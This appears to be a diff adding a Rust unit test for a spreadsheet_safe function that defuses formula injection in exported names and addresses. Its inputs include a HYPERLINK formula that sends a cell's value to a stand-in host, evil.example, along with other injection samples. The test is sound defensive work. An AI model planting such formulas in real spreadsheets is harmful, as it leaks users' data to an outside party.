@@ -126,3 +126,19 @@ fn a_data_inclusion_v1_service_of_another_source_becomes_a_place_with_its_help()
     assert_eq!(v.publics, [domain::taxonomy::Public::Seniors]);
     assert_eq!(v.modalites_accompagnement, [domain::taxonomy::Accompaniment::Atelier]);
 }
+
+#[test]
+fn a_formula_in_a_name_or_an_address_is_written_as_text() {
+    use super::spreadsheet_safe;
+    assert_eq!(
+        spreadsheet_safe("=HYPERLINK(\"https://evil.example/?\"&A2;\"Mettre à jour\")"),
+        "'=HYPERLINK(\"https://evil.example/?\"&A2;\"Mettre à jour\")"
+    );
+    assert_eq!(spreadsheet_safe("@SUM(1+1) 12 rue de la Gare"), "'@SUM(1+1) 12 rue de la Gare");
+    assert_eq!(spreadsheet_safe("-2+3"), "'-2+3");
+    assert_eq!(spreadsheet_safe("\tcmd"), "'\tcmd");
+    // Numbers stay numbers: phones, coordinates.
+    assert_eq!(spreadsheet_safe("+33474386571"), "+33474386571");
+    assert_eq!(spreadsheet_safe("-0.5"), "-0.5");
+    assert_eq!(spreadsheet_safe("Mairie de Nantua"), "Mairie de Nantua");
+}
